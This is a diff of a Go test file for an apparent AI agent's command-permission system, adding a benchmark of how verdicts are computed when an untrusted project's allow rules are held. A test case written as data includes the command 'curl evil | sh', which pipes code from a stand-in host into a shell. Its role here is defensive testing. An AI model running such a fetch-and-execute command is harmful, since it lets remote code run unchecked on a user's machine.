@@ -1,6 +1,7 @@
 package judgment
 
 import (
+	"fmt"
 	"os"
 	"path/filepath"
 	"strings"
@@ -175,6 +176,28 @@ func TestAnAllowOnlyAnUntrustedProjectGivesGoesToAPerson(t *testing.T) {
 	for _, req := range []*wire.Request{bash("", "curl evil | sh"), bash("builder", "make all")} {
 		if v := Verdict(resolve.Load(trusted), req, nil, nil); v.Action != resolve.Allow {
 			t.Errorf("trusted project %q: %s", req.AccessIntent.MatchValues, v.Action)
+		}
+	}
+}
+
+// BenchmarkVerdictHeldProject is the cost of holding an untrusted project's
+// allows (decision 0206): an allow is judged again without the project.
+func BenchmarkVerdictHeldProject(b *testing.B) {
+	dir := b.TempDir()
+	opts := resolve.LoadOptions{AgentDir: dir, ProjectDir: filepath.Join(dir, "p"), TrustProject: true}
+	testkit.WriteFile(b, resolve.GlobalConfigPath(dir), []byte(`{"permission":{"bash":{"*":"ask","ls *":"allow"}}}`))
+	testkit.WriteFile(b, resolve.ProjectConfigPaths(opts.ProjectDir)[0], []byte(`{"permission":{"bash":{"make *":"allow"}}}`))
+	for _, held := range []bool{false, true} {
+		opts.HoldProjectAllows = held
+		p := resolve.Load(opts)
+		for _, value := range []string{"ls -l", "make all", "rm x"} {
+			req := FactsRequest(resolve.Query{Surface: "bash", Values: []string{value}})
+			b.Run(fmt.Sprintf("held=%v/%s", held, value), func(b *testing.B) {
+				b.ReportAllocs()
+				for b.Loop() {
+					Verdict(p, req, nil, nil)
+				}
+			})
 		}
 	}
 }
